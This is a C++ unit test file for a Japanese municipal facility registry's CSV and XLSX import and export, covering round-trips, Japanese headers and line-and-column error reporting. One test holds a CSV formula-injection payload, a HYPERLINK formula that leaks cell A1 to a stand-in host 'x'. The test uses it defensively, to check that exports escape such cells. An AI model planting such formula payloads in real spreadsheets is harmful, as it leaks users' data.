#include "facilities/registry_io.h"

#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

namespace civicdesk::facilities {
namespace {

constexpr char kHeader[] =
    "id,name,category,district,floor_area_sqm,year_built,structure,section,works\n";

Result<std::vector<Facility>> Read(const std::string& body) {
  std::istringstream input(std::string(kHeader) + body);
  return ReadFacilitiesCsv(input, 2026);
}

TEST(RegistryCsv, ReadsAndWritesTheSameRegistry) {
  Result<std::vector<Facility>> facilities = Read(
      "F1,芝公園区民センター,市民文化系,芝,2500.5,1988,RC,芝地区総合支所協働推進課,"
      "2010:中規模修繕:30000000;2019:大規模改修:600000000\n"
      "F2,\"港南小学校, 新校舎\",学校教育系施設,芝浦港南,8200,2005,SRC,,\n");
  ASSERT_TRUE(facilities.ok()) << facilities.status().ToString();
  ASSERT_EQ(facilities->size(), 2u);
  EXPECT_EQ((*facilities)[0].category, Category::kCivicCulture);
  EXPECT_DOUBLE_EQ((*facilities)[0].floor_area_sqm, 2500.5);
  ASSERT_EQ((*facilities)[0].history.size(), 2u);
  EXPECT_EQ((*facilities)[0].history[1].kind, WorkKind::kRenovation);
  EXPECT_EQ((*facilities)[0].history[1].cost_yen, 600'000'000);
  EXPECT_EQ((*facilities)[1].name, "港南小学校, 新校舎");

  std::ostringstream written;
  WriteFacilitiesCsv(*facilities, written);
  std::istringstream again(written.str());
  Result<std::vector<Facility>> reread = ReadFacilitiesCsv(again, 2026);
  ASSERT_TRUE(reread.ok()) << reread.status().ToString();
  EXPECT_EQ(FacilityRows(*reread), FacilityRows(*facilities));
}

// Issue 17: a name or district starting with =, +, -, @ was written raw, and a spreadsheet ran
// it. The export guards it with a leading ' and the import takes the ' off again.
TEST(RegistryCsv, FormulaCellsAreGuardedAndReadBackAsTheyWere) {
  Result<std::vector<Facility>> facilities = Read(
      "F1,\"=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\",市民文化系,+1+1,2500.5,1988,"
      "-2+3,@SUM(A1),\n");
  ASSERT_TRUE(facilities.ok()) << facilities.status().ToString();
  std::ostringstream written;
  WriteFacilitiesCsv(*facilities, written);
  EXPECT_NE(written.str().find("\"'=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\""),
            std::string::npos)
      << written.str();
  EXPECT_NE(written.str().find(",'+1+1,2500.5,1988,'-2+3,"), std::string::npos) << written.str();
  EXPECT_NE(written.str().find(",'@SUM(A1),"), std::string::npos) << written.str();
  std::istringstream again(written.str());
  Result<std::vector<Facility>> reread = ReadFacilitiesCsv(again, 2026);
  ASSERT_TRUE(reread.ok()) << reread.status().ToString();
  EXPECT_EQ(FacilityRows(*reread), FacilityRows(*facilities));
}

TEST(RegistryXlsx, WrittenWorkbookReadsBack) {
  Result<std::vector<Facility>> facilities = Read(
      "F1,芝公園区民センター,市民文化系,芝,2500,1988,RC,協働推進課,2019:大規模改修:600000000\n");
  ASSERT_TRUE(facilities.ok());
  XlsxSheet sheet{"施設", {}, FacilityRows(*facilities)};
  for (const char* column : kFacilityColumns) sheet.header.emplace_back(column);
  Result<std::string> bytes = XlsxWorkbookBytes({sheet});
  ASSERT_TRUE(bytes.ok());
  const std::string path = ::testing::TempDir() + "/registry.xlsx";
  {
    std::ofstream file(path, std::ios::binary);
    file << *bytes;
  }
  Result<std::vector<Facility>> reread = ReadFacilitiesXlsx(path, 2026);
  ASSERT_TRUE(reread.ok()) << reread.status().ToString();
  EXPECT_EQ(FacilityRows(*reread), FacilityRows(*facilities));
}

TEST(RegistryCsv, JapaneseHeadersAreAccepted) {
  std::istringstream input("施設名,施設分類,延床面積,建築年\n区役所,行政系,30000,1987\n");
  Result<std::vector<Facility>> facilities = ReadFacilitiesCsv(input, 2026);
  ASSERT_TRUE(facilities.ok()) << facilities.status().ToString();
  EXPECT_EQ((*facilities)[0].category, Category::kAdministration);
}

// The owning department (所管部) beside the section: together they say who records the works.
TEST(RegistryCsv, OwningDepartmentAndSectionAreRead) {
  std::istringstream input(
      "施設名,施設分類,延床面積,建築年,所管部,所管課\n区役所,行政系,30000,1987,総務部,施設課\n");
  Result<std::vector<Facility>> facilities = ReadFacilitiesCsv(input, 2026);
  ASSERT_TRUE(facilities.ok()) << facilities.status().ToString();
  EXPECT_EQ((*facilities)[0].department, "総務部");
  EXPECT_EQ((*facilities)[0].section, "施設課");
  std::ostringstream written;
  WriteFacilitiesCsv(*facilities, written);
  std::istringstream again(written.str());
  Result<std::vector<Facility>> reread = ReadFacilitiesCsv(again, 2026);
  ASSERT_TRUE(reread.ok()) << reread.status().ToString();
  EXPECT_EQ((*reread)[0].department, "総務部");
}

// The bad inputs: each names the line and the column.
TEST(RegistryCsv, BadRowsNameTheLineAndColumn) {
  Result<std::vector<Facility>> negative =
      Read("F1,A,行政系,芝,100,1990,RC,,\nF2,B,行政系,芝,-5,1990,RC,,\n");
  ASSERT_FALSE(negative.ok());
  EXPECT_EQ(negative.status().field(), "line 3: floor_area_sqm");

  Result<std::vector<Facility>> future = Read("F1,A,行政系,芝,100,2031,RC,,\n");
  ASSERT_FALSE(future.ok());
  EXPECT_EQ(future.status().field(), "line 2: year_built");
  EXPECT_EQ(future.status().message_id(), "facilities.year_built_future");
  EXPECT_EQ(future.status().arg("year"), "2031");
  EXPECT_EQ(future.status().arg("current"), "2026");

  Result<std::vector<Facility>> category = Read("F1,A,宇宙港,芝,100,1990,RC,,\n");
  ASSERT_FALSE(category.ok());
  EXPECT_EQ(category.status().field(), "line 2: category");
  EXPECT_EQ(category.status().message_id(), "facilities.category_unknown");

  Result<std::vector<Facility>> kind = Read("F1,A,行政系,芝,100,1990,RC,,2000:塗装\n");
  ASSERT_FALSE(kind.ok());
  EXPECT_EQ(kind.status().field(), "line 2: works");
  EXPECT_EQ(kind.status().message_id(), "facilities.work_kind_unknown");

  Result<std::vector<Facility>> duplicate =
      Read("F1,A,行政系,芝,100,1990,RC,,\nF1,B,行政系,芝,100,1990,RC,,\n");
  ASSERT_FALSE(duplicate.ok());
  EXPECT_EQ(duplicate.status().field(), "line 3: id");
  EXPECT_EQ(duplicate.status().arg("line"), "2");

  // A column with data that maps to no field is refused by its name; a missing name column too.
  std::istringstream unknown_column(
      "name,category,floor_area_sqm,year_built,colour\nA,行政系,100,1990,赤\n");
  Result<std::vector<Facility>> colour = ReadFacilitiesCsv(unknown_column, 2026);
  EXPECT_EQ(colour.status().message_id(), "core.import_unmapped_column");
  EXPECT_EQ(colour.status().field(), "colour");
  std::istringstream missing("category,year_built\n行政系,1990\n");
  Result<std::vector<Facility>> nameless = ReadFacilitiesCsv(missing, 2026);
  EXPECT_EQ(nameless.status().message_id(), "core.import_column_missing");
  EXPECT_EQ(nameless.status().arg("column"), "name");
}

// Every bad row is in the report at once, not only the first.
TEST(RegistryCsv, EveryBadRowIsReported) {
  tabular::Report refused;
  Result<FacilitiesRead> read = ReadFacilitiesTable(
      "施設番号,施設名,施設分類,延床面積,建築年\n"
      "F1,庁舎,行政系,-5,1990\n"
      ",公民館,社会教育系,300,1980\n"
      "F3,,行政系,100,2999\n",
      2026, {}, &refused);
  ASSERT_FALSE(read.ok());
  std::vector<std::string> fields;
  for (const Status& error : refused.errors) fields.push_back(error.field());
  EXPECT_EQ(fields, (std::vector<std::string>{"line 2: floor_area_sqm", "line 3: id",
                                              "line 4: name", "line 4: year_built"}));
}

// A 公共施設一覧 of the 自治体標準オープンデータセット: names and numbers, no area, build year or
// category. Registered with those unknown, left out of the projection, each said in a warning.
TEST(RegistryCsv, PublicFacilityListWithoutAreaOrYearIsReadWithWarnings) {
  tabular::ImportOptions options;
  options.ignored_columns = {"住所", "緯度"};
  Result<FacilitiesRead> read = ReadFacilitiesTable(
      "NO,名称,住所,緯度,延床面積（㎡）\n"
      "0000010001,親子ふれあい広場,焼津市本町5-6-1,34.86,\n"
      "0000010002,焼津駅北口駐車場,焼津市駅北1-1-1,34.87,\"1,234\"\n",
      2026, options, nullptr);
  ASSERT_TRUE(read.ok()) << read.status().ToString();
  ASSERT_EQ(read->facilities.size(), 2u);
  EXPECT_EQ(read->facilities[0].id, "0000010001");
  EXPECT_EQ(read->facilities[0].category, Category::kOther);
  EXPECT_FALSE(Projectable(read->facilities[0]));
  EXPECT_DOUBLE_EQ(read->facilities[1].floor_area_sqm, 1234);
  ASSERT_EQ(read->report.changes.size(), 1u);  // 「1,234」 read as 1234, and listed
  ASSERT_EQ(read->report.warnings.size(), 2u);
  EXPECT_EQ(read->report.warnings[0].message_id(), "facilities.import_category_other");
  EXPECT_EQ(read->report.warnings[0].arg("count"), "2");
  EXPECT_EQ(read->report.warnings[1].message_id(), "facilities.import_not_projected");
  EXPECT_EQ(read->report.warnings[1].arg("count"), "2");
  EXPECT_TRUE(ScheduleWorks(read->facilities, SoumuPolicy(), {2026, 40}).empty());
  // The export leaves the unknown area and year empty, and reads back the same.
  std::ostringstream csv;
  WriteFacilitiesCsv(read->facilities, csv);
  std::istringstream again(csv.str());
  Result<std::vector<Facility>> reread = ReadFacilitiesCsv(again, 2026);
  ASSERT_TRUE(reread.ok()) << reread.status().ToString();
  EXPECT_EQ(reread->at(0).year_built, 0);
  EXPECT_EQ(reread->at(0).floor_area_sqm, 0);
}

}  // namespace
}  // namespace civicdesk::facilities
